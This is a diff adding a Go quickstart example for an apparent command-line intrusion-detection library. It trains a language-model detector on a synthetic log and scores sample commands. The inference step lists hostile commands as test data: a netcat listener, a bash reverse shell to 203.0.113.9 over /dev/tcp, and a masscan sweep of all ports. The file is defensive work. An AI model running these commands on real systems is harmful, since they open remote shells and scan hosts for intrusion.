@@ -1,0 +1,71 @@
+// Quickstart: the full Fig. 1 pipeline in one file.
+//
+// Synthesizes a small cloud command-line log, trains the backbone
+// (pre-processing + BPE + masked-LM pre-training), adapts it with
+// classification-based tuning under noisy commercial-IDS supervision, and
+// scores a handful of command lines.
+//
+//	go run ./examples/quickstart
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"clmids"
+)
+
+func main() {
+	// 1. Log data. In production this is your audit log; here the
+	// synthetic generator stands in for the paper's 30M-line corpus.
+	ccfg := clmids.DefaultCorpusConfig()
+	ccfg.TrainLines = 2000
+	ccfg.IntrusionRate = 0.15
+	train, _, err := clmids.GenerateCorpus(ccfg)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("log: %d lines, %d intrusions\n",
+		len(train.Samples), train.CountLabel(clmids.Intrusion))
+
+	// 2. Backbone: parser filter -> BPE tokenizer -> MLM pre-training.
+	pcfg := clmids.TinyExperiment().Pipeline
+	pcfg.Logf = func(format string, a ...any) { fmt.Printf("  "+format+"\n", a...) }
+	pipeline, err := clmids.Build(train.Lines(), pcfg)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// 3. Noisy supervision from the commercial IDS (§IV).
+	ids := clmids.NewCommercialIDS()
+	labels, err := ids.Label(train.Lines(), clmids.DefaultSupervisionNoise(), 1)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// 4. Classification-based tuning (§IV-B): the paper's best method.
+	tcfg := clmids.DefaultClassifierConfig()
+	tcfg.Epochs = 8
+	tcfg.MeanPoolFeatures = true
+	detector, err := clmids.TrainClassifier(pipeline, train.Lines(), labels, tcfg)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// 5. Inference.
+	lines := []string{
+		"ls -la /srv/data",
+		"docker exec -it app bash",
+		"nc -lvnp 4444",
+		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+		"sh /root/masscan.sh 203.0.113.9 -p 0-65535", // out-of-box: no rule covers it
+	}
+	scores, err := detector.Score(lines)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("\nintrusion scores:")
+	for i, line := range lines {
+		fmt.Printf("  %.3f  %s\n", scores[i], line)
+	}
+}
